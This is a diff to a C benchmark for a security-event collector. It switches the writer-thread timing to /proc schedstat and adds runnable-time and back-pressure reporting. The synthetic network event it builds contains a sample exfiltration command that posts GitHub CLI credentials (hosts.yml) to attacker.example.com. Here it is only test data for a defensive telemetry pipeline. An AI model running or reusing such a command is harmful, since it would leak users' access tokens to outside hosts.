@@ -12,8 +12,8 @@
  *                  at 1000/s; 0 skips the latency part)
  *
  * The spool lives in a fresh $TMPDIR/tg-bench-XXXXXX (removed at the end).
- * events = 0 skips the throughput part. Prints events/s, MB/s of spool, CPU per event, how busy the writer thread
- * was, the collector's counters, and `result ...` lines (key=value) for
+ * events = 0 skips the throughput part. Prints events/s, MB/s of spool, CPU per event, how busy the
+ * writer thread was, the collector's counters, and `result ...` lines (key=value) for
  * bench/bench_gateway.py. A benchmark: it never fails on speed (exit 1 only
  * on an error).
  */
@@ -88,25 +88,26 @@ static long new_task(const long *before, int nb)
     return found;
 }
 
-/* utime + stime of a thread of this process, in seconds; -1 when unknown. */
-static double task_cpu_s(long tid)
+/* A thread's time on a CPU and waiting for one (runnable), in seconds, from
+ * /proc/self/task/TID/schedstat; -1 when unknown. */
+static int task_sched(long tid, double *on_cpu, double *runnable)
 {
-    char path[64], buf[1024];
+    char path[64];
+    unsigned long long run, wait;
+    *on_cpu = *runnable = -1;
     if (tid <= 0)
         return -1;
-    snprintf(path, sizeof path, "/proc/self/task/%ld/stat", tid);
+    snprintf(path, sizeof path, "/proc/self/task/%ld/schedstat", tid);
     FILE *f = fopen(path, "r");
     if (!f)
         return -1;
-    size_t n = fread(buf, 1, sizeof buf - 1, f);
+    int n = fscanf(f, "%llu %llu", &run, &wait);
     fclose(f);
-    buf[n] = '\0';
-    const char *p = strrchr(buf, ')'); /* the name may hold spaces */
-    unsigned long long ut, st;
-    /* after ")": state ppid pgrp session tty tpgid flags minflt cminflt majflt cmajflt utime stime */
-    if (!p || sscanf(p + 1, " %*c %*d %*d %*d %*d %*d %*u %*u %*u %*u %*u %llu %llu", &ut, &st) != 2)
+    if (n != 2)
         return -1;
-    return (double)(ut + st) / (double)sysconf(_SC_CLK_TCK);
+    *on_cpu = (double)run / 1e9;
+    *runnable = (double)wait / 1e9;
+    return 0;
 }
 
 /* ---- the event ---------------------------------------------------------- */
@@ -117,8 +118,7 @@ static void make(ocsf_event_t *ev, long i)
     static const ocsf_product_t p = {OCSF_STR("tollgate-proxy"), OCSF_STR(TOLLGATE_VENDOR),
                                      OCSF_STR(TOLLGATE_VERSION)};
     ocsf_event_init(ev);
-    ocsf_event_begin(ev, OCSF_CLASS_NETWORK, OCSF_NET_OPEN, OCSF_SEV_INFO,
-                     1795737600000LL + i, &p);
+    ocsf_event_begin(ev, OCSF_CLASS_NETWORK, OCSF_NET_OPEN, OCSF_SEV_INFO, 1795737600000LL + i, &p);
     ev->log_name = OCSF_STR("sandbox");
     ev->device_hostname = OCSF_STR("devbox");
     ev->device_type_id = OCSF_DEVICE_SERVER;
@@ -128,8 +128,9 @@ static void make(ocsf_event_t *ev, long i)
     ev->actor.name = OCSF_STR("curl");
     ev->actor.cmd_line =
         OCSF_STR("curl -d @/home/agent/.config/gh/hosts.yml https://attacker.example.com/");
-    ocsf_process_set_file(&ev->actor, OCSF_STR("/usr/bin/curl"),
-                          OCSF_STR("5f1b1a0e4f5d8c2e7b9a3c6d0e1f2a3b4c5d6e7f8091a2b3c4d5e6f708192a3b"));
+    ocsf_process_set_file(
+        &ev->actor, OCSF_STR("/usr/bin/curl"),
+        OCSF_STR("5f1b1a0e4f5d8c2e7b9a3c6d0e1f2a3b4c5d6e7f8091a2b3c4d5e6f708192a3b"));
     ev->dst.domain = OCSF_STR("attacker.example.com");
     ev->dst.ip = OCSF_STR("203.0.113.7");
     ev->dst.port = 443;
@@ -187,7 +188,8 @@ static int bench_throughput(const char *dir, int np, const char *mode)
     if (open_collector(dir, mode, &col) != 0)
         return -1;
     long writer = new_task(before, nb);
-    double wcpu0 = task_cpu_s(writer);
+    double w_cpu0, w_rq0, w_cpu = -1, w_rq = -1;
+    task_sched(writer, &w_cpu0, &w_rq0);
     last_ticket = calloc((size_t)np, sizeof *last_ticket);
     pthread_t th[64];
     double c0 = cpu_s(), t0 = now_s();
@@ -201,7 +203,8 @@ static int bench_throughput(const char *dir, int np, const char *mode)
         last = last_ticket[k] > last ? last_ticket[k] : last;
     col_wait_durable(col, last, -1);
     double t_durable = now_s() - t0, cpu = cpu_s() - c0;
-    double wcpu = wcpu0 >= 0 ? task_cpu_s(writer) - wcpu0 : -1;
+    if (w_cpu0 >= 0 && task_sched(writer, &w_cpu, &w_rq) == 0)
+        w_cpu -= w_cpu0, w_rq -= w_rq0;
     col_stats_t st;
     col_stats(col, &st);
     double n = (double)np * (double)per;
@@ -218,18 +221,26 @@ static int bench_throughput(const char *dir, int np, const char *mode)
            (double)st.spool_bytes / n);
     printf("  cpu              %12.0f ns/ev  of CPU, all threads (%.2f cores busy)\n",
            cpu * 1e9 / n, cpu / t_durable);
-    if (wcpu >= 0)
-        printf("  writer thread    %11.0f%%    busy (%.0f ns/ev): near 100%% means it is the "
-               "limit\n",
-               100 * wcpu / t_durable, wcpu * 1e9 / n);
+    if (w_cpu >= 0) {
+        double sleep = t_durable - w_cpu - w_rq;
+        printf("  writer thread    %11.0f%%    on a CPU (%.0f ns/ev), %.0f%% runnable waiting for "
+               "one, %.0f%% asleep (write/fdatasync, or an empty ring)\n",
+               100 * w_cpu / t_durable, w_cpu * 1e9 / n, 100 * w_rq / t_durable,
+               100 * (sleep > 0 ? sleep : 0) / t_durable);
+    }
+    if (st.blocked)
+        printf("  pace             producers waited %llu times for room in the ring: the "
+               "writer thread set the pace\n",
+               (unsigned long long)st.blocked);
     printf("  counters         blocked=%llu fsyncs=%llu segments=%llu spool_bytes=%llu\n",
            (unsigned long long)st.blocked, (unsigned long long)st.fsyncs,
            (unsigned long long)st.segments, (unsigned long long)st.spool_bytes);
     printf("  goal             %12.0f ev/s  durable: %s (information only)\n", GOAL_EVENTS_PER_S,
            n / t_durable >= GOAL_EVENTS_PER_S ? "PASS" : "MISS");
     printf("result append producers=%d events=%.0f fsync=%s append_s=%.6f durable_s=%.6f "
-           "spool_bytes=%llu cpu_s=%.6f writer_cpu_s=%.6f blocked=%llu fsyncs=%llu\n",
-           np, n, mode, t_append, t_durable, (unsigned long long)st.spool_bytes, cpu, wcpu,
+           "spool_bytes=%llu cpu_s=%.6f writer_cpu_s=%.6f writer_runnable_s=%.6f blocked=%llu "
+           "fsyncs=%llu\n",
+           np, n, mode, t_append, t_durable, (unsigned long long)st.spool_bytes, cpu, w_cpu, w_rq,
            (unsigned long long)st.blocked, (unsigned long long)st.fsyncs);
     col_destroy(col);
     col = NULL;
@@ -243,10 +254,10 @@ static struct {
     pthread_mutex_t mu;
     pthread_cond_t cv;
     bool signalled, done;
-    uint64_t base;     /* the sequence of the first latency event */
+    uint64_t base; /* the sequence of the first latency event */
     long n, seen;
-    double *t_append;  /* per event, before col_append */
-    double *lat;       /* seconds, per event */
+    double *t_append; /* per event, before col_append */
+    double *lat;      /* seconds, per event */
 } L = {.mu = PTHREAD_MUTEX_INITIALIZER, .cv = PTHREAD_COND_INITIALIZER};
 
 /* A listener: runs on the writer thread after each commit; only signals. */
@@ -352,8 +363,8 @@ static int bench_latency(const char *dir, const char *mode, long n, double rate)
            n, rate, mode);
     printf("  latency          p50 %.0f us   p99 %.0f us   max %.0f us   (%ld/%ld seen)\n", p50,
            p99, mx, seen, n);
-    printf("result latency events=%ld rate=%.0f seen=%ld p50_us=%.1f p99_us=%.1f max_us=%.1f\n",
-           n, rate, seen, p50, p99, mx);
+    printf("result latency events=%ld rate=%.0f seen=%ld p50_us=%.1f p99_us=%.1f max_us=%.1f\n", n,
+           rate, seen, p50, p99, mx);
     col_destroy(col);
     col = NULL;
     free(L.t_append);
